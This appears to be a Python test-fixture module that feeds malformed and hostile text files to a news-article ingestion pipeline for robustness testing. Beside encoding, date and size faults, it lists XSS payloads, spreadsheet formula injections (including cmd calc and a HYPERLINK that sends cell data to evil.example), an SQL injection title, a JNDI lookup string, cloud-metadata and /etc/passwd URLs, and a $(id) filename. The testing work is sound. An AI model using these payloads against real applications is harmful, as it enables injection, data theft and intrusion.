"""Hostile text files: bytes, dates, letters, sizes, markup, formulas, names."""

import unicodedata
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

from tests.faults.cases import BODY, DATE, TITLE, Case, seed

RLO, PDF, ZWSP, ZWNJ, ZWJ, SHY, BOM, NBSP, NEL, LS = (
    "\u202e", "\u202c", "\u200b", "\u200c", "\u200d", "\u00ad", "\ufeff", "\u00a0", "\u0085", "\u2028",
)  # fmt: skip

MARKUP = (
    "<script>window.__pwn=1</script>",
    '<img src=x onerror="window.__pwn=1">',
    "<svg onload=window.__pwn=1>",
    '<a href="javascript:window.__pwn=1">ТАСС</a>',
    "[ТАСС](javascript:window.__pwn=1)",
    "![x](https://evil.example/t.png)",
    '<iframe srcdoc="<script>parent.__pwn=1</script>">',
    '"><img src=x onerror=window.__pwn=1>',
    "'-window.__pwn=1-'",
    '{{constructor.constructor("window.__pwn=1")()}}',
    r"$\href{javascript:window.__pwn=1}{ТАСС}$",
    "</textarea><script>window.__pwn=1</script>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=window.__pwn=1>",
    ":red[ложное] :material/warning: # заголовок",
    '<a href="https://evil.example/login">Войти заново</a>',
    '<b style="position:fixed;inset:0;font-size:99px">ВЗЛОМАНО</b>',
    "%{customdata[0]}<extra></extra>",
    '<span style="font-size:300px">!</span>',
    "<!--",
    "]]>",
    "&lt;script&gt;",
    r"\u003cscript\u003e",
    "data:text/html,<script>window.__pwn=1</script>",
    "//evil.example/x",
    "http://169.254.169.254/latest/meta-data/",
    "file:///etc/passwd",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?d="&A1,"открыть")',
    "+7 495 000-00-00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|'/C calc'!A0",
    "＝1+1",
    " =1+1",
    '"=1+1"',
    '=IMPORTXML("http://evil.example","//a")',
    "%0A-3+3",
    ";=1+1",
)


def cases() -> Iterator[Case]:
    """All of them."""
    for number, case in enumerate([*_bytes(), *_headers(), *_dates(), *_letters(), *_sizes(), *_content()], 1):
        yield replace(case, id=f"TXT-{number:02}", path=f"txt/{case.path or f'txt-{number:02}.txt'}")
    for number, markup in enumerate(MARKUP, 1):
        body = f'"Цитата {number}", - заявил {markup} Иванов.\n\n{markup}'
        yield _named("XSS", number, "markup", seed(title=markup, body=body), titles=(markup,), text=body)
    for number, formula in enumerate(FORMULAS, 1):
        title = formula.strip("\r\n\t")
        yield _named("FML", number, "a spreadsheet formula", seed(title=title), titles=(title.strip(),), text=BODY)
    for number, title in enumerate(("'); DROP TABLE articles;--", '100% _ \\ * "NEAR" (OR) [а-я]+ ^$'), 1):
        yield _named("SQL", number, "the language of a database", seed(title=title), titles=(title,))
    title = "%s %n {0} {title} ${jndi:ldap://evil.example/a} %(x)s"
    yield _named("FMT", 1, "the language of templates", seed(title=title), titles=(title,))
    yield from _names()
    yield from _binaries()


def twins() -> list[Case]:
    """Three files that belong together: an article, the same again, and nearly the same."""
    near = BODY.replace(" ", NBSP, 3).replace('"', "«", 1)
    return [
        _named("DUP", 1, "an article", seed(title="Дубль")),
        _named("DUP", 2, "the same again", seed(title="Дубль"), outcome="skip", articles=0),
        _named("DUP", 3, "other spaces and quotation marks", seed(title="Дубль", body=near)),
    ]


def _named(kind: str, number: int, fault: str, article: str, **expected: Any) -> Case:
    id = f"{kind}-{number:02}"
    return Case(id, f"txt/{id.lower()}.txt", article.encode(), fault, **expected)


def _case(fault: str, data: str | bytes, **expected: Any) -> Case:
    return Case("", "", data.encode() if isinstance(data, str) else data, fault, **expected)


def _good(fault: str, data: str | bytes) -> Case:
    """The article as it is, written in some way."""
    return _case(fault, data, titles=(TITLE,), days=(DATE,), text=BODY)


def _bytes() -> Iterator[Case]:
    garbled = TITLE.encode().decode("cp1251", "replace")
    yield _good("control: the seed form", seed())
    yield _good("no space before the header", seed(lead=""))
    yield _good("a byte order mark", BOM + seed())
    yield _good("CRLF", seed().replace("\n", "\r\n"))
    yield _good("lone CR", seed().replace("\n", "\r"))
    yield _case(
        "separators in the headline",
        seed(title=f"Захарова{LS}заявила{NEL}о контактах"),
        outcome="repair",
        titles=("Захарова заявила о контактах",),
    )
    yield _good("windows-1251", seed().encode("cp1251"))
    yield _good("KOI8-R", seed().encode("koi8-r"))
    yield _good("UTF-16, little end first", (BOM + seed()).encode("utf-16-le"))
    yield _good("UTF-16, big end first", (BOM + seed()).encode("utf-16-be"))
    yield _good("cp866", seed().encode("cp866", "replace"))
    yield _case("UTF-8 taken for windows-1251", seed(title=garbled), text=BODY)
    for fault, bad, good in (("one invalid byte", b"\xff", "Диалог".encode()), ("a surrogate", b"\xed\xa0\x80", b"")):
        yield _case(fault, seed().encode().replace("Диалог".encode(), bad + good, 1), outcome="repair")
    yield _case("NULs", seed(title="За\x00харова", body=BODY.replace("идет", "и\x00дет")), outcome="repair", text=BODY)
    yield _case(
        "terminal codes", seed(title="Он \x1b[31mзаявил\x1b[0m\x07\x08"), outcome="repair", titles=("Он заявил",)
    )


def _headers() -> Iterator[Case]:
    for fault, text in (("empty", ""), ("only white space", " \n\t\n \n")):
        yield _case(fault, text, outcome="refuse file", articles=0, reason="(?i)empty|пуст")
    yield _case("no body", f" date {DATE} {TITLE}\n", titles=(TITLE,), text="")
    yield _case("no headline", f" date {DATE}\n\n{BODY}", titles=("",), text=BODY)
    yield _case("no date line", BODY, outcome="refuse record", articles=0, line=1, reason="(?i)date|дат")
    two = seed() + "\n\n" + seed(date="2025-11-15", title="Второй")
    yield _case("two articles", two, articles=2, titles=(TITLE, "Второй"), days=(DATE, "2025-11-15"))
    yield _case("prose that begins with 'date'", seed(body=BODY + "\n\n date palm - финиковая пальма"))


def _dates() -> Iterator[Case]:
    for date in ("2025-02-30", "2025-13-01", "0000-01-01", "9999-12-31", "1600-01-01", "٢٠٢٥-١١-١٤"):
        yield _case("no day", seed(date=date), outcome="refuse record", articles=0, line=1, reason=date)
    for written, day, fault in (
        ("2036-01-01", "2036-01-01", "ten years on"),
        ("03.04.2025", "2025-04-03", "3 April, not 4 March"),
        ("14 ноября 2025", DATE, "in words"),
        ("2025-11-14T23:30:00Z", "2025-11-15", "the next day in Moscow"),
        ("2024-02-29", "2024-02-29", "a leap day"),
    ):
        yield _case(fault, seed(date=written), days=(day,), titles=(TITLE,))
    yield _case("dashes in the date", seed(date="2025–11–14"), days=(DATE,), outcome="repair")


def _letters() -> Iterator[Case]:
    hidden = BODY.replace("Захарова", f"За{ZWSP}ха{SHY}ро{ZWNJ}ва{ZWJ}")
    emoji = "МИД 🇷🇺🇺🇸👨‍👩‍👧‍👦 𝕏 заявил"
    title = "Рябков: новый Йемен ёлка"
    yield _case("reversed direction", seed(title=f"МИД {RLO}ялаворимукод{PDF} заявил"), outcome="repair")
    yield _case("invisible characters in words", seed(body=hidden), text=hidden)
    yield _case("Latin letters in Russian words", seed(body=BODY.replace("Захарова", "Зaxapoвa")))
    yield _case("decomposed letters", unicodedata.normalize("NFD", seed(title=title)), titles=(title,))
    yield _case("500 marks on a letter", seed(title="З" + "\u0301\u0315\u0335" * 170 + "ахарова"), outcome="repair")
    yield _case("emoji", seed(title=emoji), titles=(emoji,))
    yield _case("characters that are none", seed(title="МИД \uffff\ufffe\ue000"))
    yield _case("all kinds of spaces and quotes", seed(body=f"«Всё{NBSP}хорошо»,\u2009— сказал{NBSP}Лавров. „Ещё“."))
    yield _case(
        "unbalanced quotes", seed(body='По его словам, "это объясняется "раздражителям".\n\nА "долг" - прочее.')
    )
    yield _case("English", seed(title="Rubio says talks go on", body='"We will continue," Rubio said.'))
    yield _case("Ukrainian and Belarusian", seed(body="Міністр їздив у Київ. Ґанок. Ён сказаў."))
    yield _case("namesakes", seed(body="М.Захарова сказала. ЗАХАРОВА заявила. Захаров возразил."))


def _sizes() -> Iterator[Case]:
    """Long ones; lemmatising nonsense is as slow as it is, so that there is less of it than there could be."""
    nonsense = " ".join(_word(number) for number in range(15_000))
    for fault, body, seconds in (
        ("2,000 unclosed quotes", '"' * 2000 + "текст" + "«" * 2000, 2),
        ("50,000 beginnings of an attribution", '"а, - ' * 50_000, 5),
        ("twice as many", '"а, - ' * 100_000, 10),
        ("100,000 spaces", "заявил" + " " * 100_000 + "x", 2),
        ("a word of a million letters", "а" * 1_000_000, 10),
        ("15,000 different nonsense words", nonsense, 12),
        ("50,000 hyphens", "-".join("а" * 50_000), 10),
        ("a paragraph of 1 MB", "слово " * 100_000, 20),
        ("20,000 empty lines", "\n" * 20_000 + "текст", 2),
        ("a headline of 100,000 letters", "", 5),
        ("1 MB", (BODY + "\n\n") * 3_000, 30),
        ("10,000 lines", "\n".join(f"Строка {number}." for number in range(10_000)), 20),
    ):
        yield _case(fault, seed(body=body) if body else seed(title="А" * 100_000), seconds=seconds)


def _content() -> Iterator[Case]:
    yield _case("only digits", seed(title="12:34", body="1 2 3 ... !!! 2025"))
    yield _case("only stop words", seed(body="и в на не что он она это"))


def _word(number: int) -> str:
    alphabet = "абвгдежзиклмнопрстуфхцчшщыьэюя"
    number = number * 2654435761 % (1 << 32)
    return "".join(alphabet[number // len(alphabet) ** place % len(alphabet)] for place in range(6))


def _names() -> Iterator[Case]:
    for number, (name, fault) in enumerate(
        (
            ("Заха рова \"'`$(id);& 🙂.txt", "quotes and emoji in the name"),
            ("a\nb.txt", "a line feed in the name"),
            ("<img src=x onerror=window.__pwn=1>.txt", "markup in the name"),
            ("я" * 123 + ".txt", "a name of 250 bytes"),
            ("upper.TXT", "capitals in the ending"),
        ),
        1,
    ):
        yield Case(f"NAM-{number:02}", f"txt/{name}", seed(title=fault).encode(), fault)
    yield Case("NAM-06", "txt/._resource.txt", b"\x00\x05\x16\x07", "a hidden file", "skip", 0)


def _binaries() -> Iterator[Case]:
    for number, data in enumerate((b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 16, b"MZ\x90\x00" + bytes(4096)), 1):
        path = f"txt/bin-{number:02}.txt"
        yield Case(f"BIN-{number:02}", path, data, "no text", "refuse file", 0, reason="(?i)binary|двоич")
